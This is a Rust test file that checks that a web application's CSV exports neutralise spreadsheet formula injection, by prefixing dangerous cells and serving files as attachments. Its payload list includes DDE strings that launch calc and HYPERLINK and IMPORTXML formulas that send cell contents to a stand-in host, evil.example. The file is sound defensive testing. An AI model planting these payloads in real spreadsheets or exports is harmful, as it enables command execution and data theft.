//! No sheet that the program gives out has a cell that a spreadsheet would
//! run, whatever was typed.

use axum::http::Method;

use crate::{
    hostile::{fill, is_full},
    story::Story,
};

/// Beginnings of cells that spreadsheets run, or once did.
const FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\",\"=2+2",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-3",
    "+441632960417",
];

#[tokio::test(flavor = "multi_thread")]
async fn formula_corpus() {
    for story in Story::both().await {
        is_full(&story).await;
        let (mut cells, mut made_safe) = (0, 0);
        for formula in FORMULAS {
            fill(&story, &[formula], 0).await;
            for (name, text) in sheets(&story).await {
                let text = text.trim_start_matches('\u{feff}');
                let mut rows = csv::ReaderBuilder::new()
                    .has_headers(false)
                    .flexible(true)
                    .from_reader(text.as_bytes());
                for row in rows.records() {
                    for cell in row.unwrap().iter() {
                        cells += 1;
                        made_safe += usize::from(cell.starts_with('\'') && cell[1..] == **formula);
                        let runs = cell.starts_with([
                            '=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠',
                        ]);
                        let number = cell.parse::<i64>().is_ok() && cell != *formula;
                        assert!(!runs || number, "{name} has the cell {cell:?}");
                    }
                }
            }
        }
        println!("formula_corpus: {cells} cells, {made_safe} made safe");
        assert!(made_safe > FORMULAS.len() * 20, "{made_safe}");
    }
}

/// Every sheet the program gives out: those with an address, and the files of
/// the scheme's records.
async fn sheets(story: &Story) -> Vec<(String, String)> {
    let mut all = story.kept().await;
    let world = &story.world;
    for who in [world.rita, world.mo] {
        let mut browser = world.signed_in(who).await;
        let objects = story.objects(story.mary).await;
        for route in kith::router::routes().list() {
            if route.method != "GET" || !route.path.ends_with(".csv") {
                continue;
            }
            let address = objects.address(route.path).unwrap();
            let sent = browser.send(Method::GET, &address, None).await;
            if sent.status == 200 {
                assert!(
                    sent.headers["content-disposition"]
                        .as_bytes()
                        .starts_with(b"attachment"),
                    "{address} would be shown by the browser"
                );
                all.push((address, sent.text()));
            }
        }
    }
    all.retain(|(name, _)| name.ends_with(".csv"));
    assert!(all.len() > 25, "{}", all.len());
    all
}
